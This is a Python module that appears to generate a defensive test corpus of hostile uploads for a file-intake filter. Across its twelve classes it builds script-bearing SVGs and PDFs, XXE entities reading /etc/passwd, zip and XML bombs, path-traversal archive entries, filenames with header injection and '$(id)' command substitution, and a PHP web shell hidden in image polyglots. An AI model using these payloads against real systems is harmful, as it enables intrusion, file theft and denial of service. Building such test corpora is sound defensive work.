"""Hostile files, made here: twelve classes of what has really been sent to houses like ours.

Each is a name, its bytes, and what must become of it: ``refused`` at the door, or ``kept`` as what it says it is,
never as what it could be mistaken for.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache, partial

import docx
import openpyxl
import pikepdf
from PIL import Image
from reportlab.pdfgen import canvas

CANARY = "http://127.0.0.1:18499/canary"


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus."""

    case: str  # the class, by its number in the catalogue
    name: str
    content: bytes
    refused: bool = True

    def __str__(self) -> str:
        return f"{self.case}-{self.name[:40]}"


# --- honest files to begin from


@lru_cache
def pdf(text: str = "Laporan kegiatan 2026", pages: int = 1) -> bytes:
    made = io.BytesIO()
    sheet = canvas.Canvas(made, invariant=1)
    for _ in range(pages):
        sheet.drawString(72, 700, text)
        sheet.showPage()
    sheet.save()
    return made.getvalue()


@lru_cache
def word() -> bytes:
    made, document = io.BytesIO(), docx.Document()
    document.add_paragraph("Notula rapat 2026")
    document.save(made)
    return made.getvalue()


@lru_cache
def sheet() -> bytes:
    made, book = io.BytesIO(), openpyxl.Workbook()
    book.active["A1"] = "Rekap 2026"
    book.save(made)
    return made.getvalue()


@lru_cache
def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30)) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "white").save(made, kind)
    return made.getvalue()


@lru_cache
def film() -> bytes:
    return struct.pack(">I", 24) + b"ftypisom" + struct.pack(">I", 512) + b"isomiso2" + struct.pack(">I", 8) + b"moov"


def open_document(kind: str, content: str = "<office:document-content xmlns:office='o'/>") -> bytes:
    mime = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[kind]
    return packed({"mimetype": f"application/vnd.oasis.opendocument.{mime}", "content.xml": content})


def slides() -> bytes:
    types = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
    return packed({"[Content_Types].xml": types, "ppt/presentation.xml": "<p/>"})


HONEST = {
    "surat.pdf": pdf,
    "notula.docx": word,
    "rekap.xlsx": sheet,
    "paparan.pptx": slides,
    "notula.odt": partial(open_document, "odt"),
    "rekap.ods": partial(open_document, "ods"),
    "paparan.odp": partial(open_document, "odp"),
    "foto.jpg": picture,
    "gambar.png": partial(picture, "PNG"),
    "rekaman.mp4": film,
    "data.csv": lambda: b"nama;jumlah\nAnggaran;3\n",
    "catatan.txt": "Catatan — rapat\n".encode,
}


# --- tools


def packed(parts: dict[str, str | bytes], *, stored: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def changed(package: bytes, parts: dict[str, str | bytes | None]) -> bytes:
    """Return an office file with these parts added, replaced, or left out."""
    found: dict[str, str | bytes] = {}
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        if content is None:
            found.pop(name)
        else:
            found[name] = content
    return packed(found)


def with_root(change: dict[str, object]) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        for name, value in change.items():
            document.Root[name] = value
        document.save(made)
    return made.getvalue()


def action(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def relation(kind: str, target: str = CANARY) -> str:
    return (
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        f"<Relationship Id='x1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}'"
        f" Target='{target}' TargetMode='External'/></Relationships>"
    )


# --- the twelve classes


def pictures_that_run() -> Iterator[Hostile]:
    """T055: SVG under every name."""
    svgs = [
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "<svg onload='alert(1)'/>",
        "<svg><foreignObject><body onload='alert(1)'/></foreignObject></svg>",
        "<svg><a><animate attributeName='href' values='javascript:alert(1)'/></a></svg>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
        f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{CANARY}'>]><svg>&x;</svg>",
    ]
    for number, one in enumerate(svgs):
        for name in (f"logo{number}.svg", f"logo{number}.png", f"logo{number}.jpg", f"logo{number}.txt"):
            yield Hostile("T055", name, one.encode())


def wrong_types() -> Iterator[Hostile]:
    """T056: pages and programs, under their own and under borrowed names."""
    contents = {
        "html": b"<html><script>alert(1)</script></html>",
        "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
        "mht": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>",
        "js": b"#!/usr/bin/env node\nalert(1)",
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "xml": b"<?xml version='1.0'?><x/>",
        "exe": b"MZ\x90\x00" + b"\x00" * 60,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    }
    for suffix, content in contents.items():
        for name in (f"halaman.{suffix}", f"halaman.{suffix}.pdf", f"halaman-{suffix}.pdf", f"halaman-{suffix}.docx"):
            yield Hostile("T056", name, content)
        if b"\x00" in content or content.startswith((b"<", b"#!")):
            yield Hostile("T056", f"halaman-{suffix}.csv", content)


def active_pdfs() -> Iterator[Hostile]:
    """T057: PDFs with something that runs, opens, sends or carries."""
    script = pikepdf.String("app.alert(1)")
    roots: dict[str, dict[str, object]] = {
        "javascript": {"/OpenAction": action("JavaScript", JS=script)},
        "launch": {"/OpenAction": action("Launch", F=pikepdf.String("calc.exe"))},
        "submit": {"/OpenAction": action("SubmitForm", F=pikepdf.String(CANARY))},
        "import": {"/OpenAction": action("ImportData", F=pikepdf.String("/etc/passwd"))},
        "names": {
            "/Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[script, action("JavaScript", JS=script)]))
        },
        "xfa": {"/AcroForm": pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=[])},
        "aa": {"/AA": pikepdf.Dictionary(WC=action("JavaScript", JS=script))},
        "embedded": {"/Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[]))},
        "rendition": {"/OpenAction": action("Rendition", JS=script)},
        "hex-name": {"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=script)},
    }
    for name, change in roots.items():
        yield Hostile("T057", f"{name}.pdf", with_root(change))
    for kind in ("RichMedia", "Screen", "3D", "Movie", "Sound"):
        made = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf())) as document:
            note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9])
            document.pages[0]["/Annots"] = pikepdf.Array([document.make_indirect(note)])
            document.save(made)
        yield Hostile("T057", f"media-{kind}.pdf", made.getvalue())
    for where in ("/AA", "/A"):
        made = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf())) as document:
            runs = action("JavaScript", JS=script)
            document.pages[0][where] = pikepdf.Dictionary(O=runs) if where == "/AA" else runs
            document.save(made)
        yield Hostile("T057", f"page{where[1:]}.pdf", made.getvalue())
    attached = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments["x.exe"] = b"MZ"
        document.save(attached)
    yield Hostile("T057", "lampiran.pdf", attached.getvalue())
    hidden = io.BytesIO()
    with pikepdf.open(io.BytesIO(with_root(roots["javascript"]))) as document:
        document.save(hidden, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield Hostile("T057", "dalam-aliran.pdf", hidden.getvalue())
    for name, limits in (("terkunci", "buka"), ("terkunci-pemilik", "")):
        locked = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf())) as document:
            document.save(locked, encryption=pikepdf.Encryption(owner="pemilik", user=limits))
        yield Hostile("T057", f"{name}.pdf", locked.getvalue(), refused=bool(limits))


def active_office() -> Iterator[Hostile]:
    """T058: outside entities, templates and objects in office files."""
    entity = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{CANARY}'>]><x>&e;</x>"
    local = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
    parameter = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY % e SYSTEM '{CANARY}'> %e;]><x/>"
    for name, text in (("entity", entity), ("local", local), ("parameter", parameter)):
        yield Hostile("T058", f"{name}.docx", changed(word(), {"word/document.xml": text}))
        yield Hostile("T058", f"{name}.xlsx", changed(sheet(), {"xl/workbook.xml": text}))
        yield Hostile("T058", f"{name}-16.docx", changed(word(), {"word/document.xml": text.encode("utf-16")}))
        for kind in ("odt", "ods", "odp"):
            yield Hostile("T058", f"{name}.{kind}", open_document(kind, text))
    for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "video", "aFChunk"):
        yield Hostile("T058", f"{kind}.docx", changed(word(), {"word/_rels/settings.xml.rels": relation(kind)}))
    for kind in ("oleObject", "image", "connections"):
        yield Hostile("T058", f"{kind}.xlsx", changed(sheet(), {"xl/_rels/extra.xml.rels": relation(kind)}))
    for part in (
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/vbaProject.bin",
        "customXml/a.exe",
    ):
        yield Hostile("T058", f"{part.rsplit('/')[-1]}.docx", changed(word(), {part: b"\xd0\xcf\x11\xe0"}))
    yield Hostile("T058", "ole-tanpa-nama.docx", changed(word(), {"word/embeddings/a.dat": b"\xd0\xcf\x11\xe0" * 9}))
    yield Hostile("T058", "dde.xlsx", changed(sheet(), {"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"}))
    yield Hostile("T058", "makro4.xlsx", changed(sheet(), {"xl/macrosheets/sheet1.xml": "<x/>"}))
    yield Hostile(
        "T058", "basic.odt", packed({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/a.xml": "<x/>"})
    )
    yield Hostile(
        "T058", "tautan.docx", changed(word(), {"word/_rels/a.xml.rels": relation("hyperlink")}), refused=False
    )


def nested_xml() -> Iterator[Hostile]:
    """T059: entities that multiply."""
    laughs = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    bomb = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'ha'>{laughs}]><x>&a9;</x>"
    flat = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a '{'A' * 50_000}'>]><x>{'&a;' * 5_000}</x>"
    for name, text in (("laughs", bomb), ("quadratic", flat)):
        yield Hostile("T059", f"{name}.docx", changed(word(), {"word/document.xml": text}))
        yield Hostile("T059", f"{name}.xlsx", changed(sheet(), {"xl/worksheets/sheet1.xml": text}))
        yield Hostile("T059", f"{name}.odt", open_document("odt", text))
        yield Hostile("T059", f"{name}.rels.docx", changed(word(), {"word/_rels/a.xml.rels": text}))
    deep = "<x>" * 100_000
    yield Hostile("T059", "tak-tertutup.docx", changed(word(), {"word/document.xml": deep}))
    yield Hostile("T059", "bukan-xml.docx", changed(word(), {"word/document.xml": b"\xff\xfe\x00\x01"}))


def bombs() -> Iterator[Hostile]:
    """T060: little that becomes much."""
    zeros = b"\x00" * (80 * 1024 * 1024)
    yield Hostile("T060", "nol.xlsx", changed(sheet(), {"xl/media/a.dat": zeros}))
    yield Hostile("T060", "nol.docx", changed(word(), {"word/document.xml": b"<x>" + b" " * len(zeros) + b"</x>"}))
    yield Hostile("T060", "banyak.docx", changed(word(), {f"word/a{n}.xml": "<x/>" for n in range(10_001)}))
    inner = packed({"a": zeros[: 20 * 1024 * 1024]})
    yield Hostile(
        "T060", "bersarang.docx", changed(word(), {"word/embeddings/a.zip": packed({f"{n}": inner for n in range(9)})})
    )
    nested = changed(sheet(), {"xl/embeddings/a.xlsx": sheet()})
    yield Hostile("T060", "dua-lapis.docx", changed(word(), {"word/embeddings/a.xlsx": nested}))
    yield Hostile("T060", "grafik.pptx", changed(slides(), {"ppt/embeddings/a.xlsx": sheet()}), refused=False)
    yield Hostile("T060", "tumpuk.docx", _overlapping())
    yield Hostile("T060", "bohong.docx", _lying())
    yield Hostile("T060", "halaman.pdf", _many_pages())


def _overlapping() -> bytes:
    """Return a package whose directory names the same bytes many times."""
    content = bytearray(changed(word(), {"word/a1.xml": "<x/>", "word/a2.xml": "<x/>"}))
    first, second = content.rfind(b"word/a1.xml") - 46, content.rfind(b"word/a2.xml") - 46
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def _lying() -> bytes:
    """Return a package that announces a byte and holds megabytes."""
    content = bytearray(changed(word(), {"word/z.xml": b"<x>" + b" " * 30_000_000 + b"</x>"}))
    at = content.rfind(b"word/z.xml") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(content)


def _many_pages() -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page(page_size=(9, 9))
        for _ in range(5_001):
            document.pages.append(page)
        document.save(made)
    return made.getvalue()


def escapes() -> Iterator[Hostile]:
    """T061: names inside a package that leave it."""
    names = [
        *("../../../etc/passwd", "..\\..\\windows\\a.xml", "/etc/cron.d/a", "C:/windows/a.xml", "word/../../a.xml"),
        *("a" * 400 + ".xml", "word/DOCUMENT.XML", "word/./../../x"),
    ]
    for number, name in enumerate(names):
        yield Hostile("T061", f"keluar{number}.docx", changed(word(), {name: "<x/>"}))
        if "DOCUMENT" not in name:
            yield Hostile("T061", f"keluar{number}.xlsx", changed(sheet(), {name: "<x/>"}))
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo("word/tautan.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield Hostile("T061", "tautan-simbolik.docx", made.getvalue())
    locked = bytearray(word())
    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
    yield Hostile("T061", "tersandi.docx", bytes(locked))


def strange_names() -> Iterator[Hostile]:
    """T062, T063: names that travel, split a header, or turn around; the content is honest, so it is kept, renamed."""
    names = [
        *("../../etc/passwd.txt", "..\\..\\boot.txt", "/etc/shadow.txt", "C:\\x\\y.txt", "a/../b.txt", "....//a.txt"),
        *(
            '"; filename=a.bat.txt',
            "a\r\nSet-Cookie: x=1.txt",
            "a\u202etxt.exe.txt".replace(".exe", ""),
            "\u200b\u2066a.txt",
        ),
        *(
            "😀 rapat.txt",
            "CON.txt",
            "nul .txt",
            "a" * 400 + ".txt",
            ".txt",
            " .txt",
            "%2e%2e%2fa.txt",
            "a;b.txt",
            "~root.txt",
        ),
        *(
            "'+alert(1)+'.txt",
            "<img src=x onerror=alert(1)>.txt",
            "{{7*7}}.txt",
            "=cmd|calc.txt",
            "$(id).txt",
            "`id`.txt",
        ),
    ]
    for number, name in enumerate(names):
        keep = not name.strip().startswith(".txt") and ".bat" not in name
        yield Hostile("T062", name, f"isi {number}\n".encode(), refused=not keep)


def running_names() -> Iterator[Hostile]:
    """T064: endings that some system runs."""
    from bening.foundation.storage.kinds import RUNNING  # noqa: PLC0415 -- the house's own list, so that none is left out

    for suffix in sorted(RUNNING):
        yield Hostile("T064", f"berkas.{suffix}", b"isi\n")
        yield Hostile("T064", f"berkas.{suffix.upper()}.txt", b"isi\n")
    for name in ("berkas.php.", "berkas.php ", "berkas.pdf.php", "berkas", "berkas.", "berkas.pdf\x00.txt.php"):
        yield Hostile("T064", name, b"isi\n")


def huge_pictures() -> Iterator[Hostile]:
    """T068: pictures that say they are a wall."""
    for width, height in ((65_000, 65_000), (200_000, 1_000), (2**31 - 1, 1)):
        yield Hostile("T068", f"{width}.png", _png(width, height))
    lying = bytearray(picture())
    at = lying.find(b"\xff\xc0")
    lying[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    yield Hostile("T068", "dinding.jpg", bytes(lying))
    yield Hostile("T068", "potong.jpg", picture()[:200])
    yield Hostile("T068", "potong.png", picture("PNG")[:60])
    for kind, name in (("GIF", "a.png"), ("TIFF", "a.jpg"), ("BMP", "b.png"), ("WEBP", "c.jpg")):
        yield Hostile("T068", name, picture(kind))


def _png(width: int, height: int) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\x00" * 99)) + chunk(b"IEND", b"")
    )


def macros() -> Iterator[Hostile]:
    """T071: macro documents under a plain name."""
    types = changed(word(), {"[Content_Types].xml": _macro_types()})
    yield Hostile("T071", "makro.docm", types)
    yield Hostile("T071", "makro.docx", types)
    yield Hostile("T071", "makro.docx", changed(word(), {"word/vbaData.xml": "<x/>"}))
    yield Hostile("T071", "makro.xlsx", changed(sheet(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))


def _macro_types() -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        found = archive.read("[Content_Types].xml")
    return found.replace(b"document.main+xml", b"document.macroEnabled.main+xml").replace(
        b"openxmlformats-officedocument.wordprocessingml.document.macro", b"ms-word.document.macro"
    )


def two_in_one() -> Iterator[Hostile]:
    """T073: files that are two things."""
    archive = packed({"a.js": "alert(1)"})
    page = b"<html><script>alert(1)</script></html>"
    code = b"<?php system($_GET['x']); ?>"
    yield Hostile("T073", "arsip.pdf", pdf() + archive)
    yield Hostile("T073", "arsip.jpg", picture() + archive)
    yield Hostile("T073", "arsip.png", picture("PNG") + archive)
    yield Hostile("T073", "arsip.mp4", film() + archive)
    yield Hostile("T073", "php.jpg", picture() + code)
    yield Hostile("T073", "php.png", picture("PNG") + code)
    yield Hostile(
        "T073",
        "php-komentar.jpg",
        picture()[:2] + b"\xff\xfe" + struct.pack(">H", len(code) + 2) + code + picture()[2:],
    )
    yield Hostile("T073", "halaman.jpg", picture() + page)
    yield Hostile("T073", "halaman.pdf", b"%PDF-1.7\n" + page + pdf())
    yield Hostile("T073", "gif.jpg", b"GIF89a/*" + picture())
    yield Hostile("T073", "gif.txt", b"GIF89a=1;alert(1)\x00")
    yield Hostile("T073", "pdf-di-belakang.docx", word() + pdf())
    yield Hostile("T073", "awalan.docx", b"#!/bin/sh\n" + word())
    yield Hostile("T073", "awalan.pdf", b"MZ\x90" + pdf())
    yield Hostile("T073", "docx-sebagai.xlsx", word())
    yield Hostile("T073", "xlsx-sebagai.docx", sheet())
    yield Hostile("T073", "zip-sebagai.docx", archive)
    yield Hostile("T073", "pdf-sebagai.docx", pdf())
    yield Hostile("T073", "docx-sebagai.pdf", word())
    yield Hostile("T073", "jpg-sebagai.png", picture())
    yield Hostile("T073", "pdf-sebagai.txt", b"%PDF-1.7\n\x00\x01\x02" + pdf())
    for name, content in (
        ("kosong.pdf", b""),
        ("rusak.pdf", pdf()[:80]),
        ("rusak.docx", word()[:900]),
        ("rusak.mp4", film()[:20]),
    ):
        yield Hostile("T073", name, content)


def every() -> list[Hostile]:
    classes = (
        *(pictures_that_run, wrong_types, active_pdfs, active_office, nested_xml, bombs, escapes, strange_names),
        *(running_names, huge_pictures, macros, two_in_one),
    )
    return [one for made in classes for one in made()]
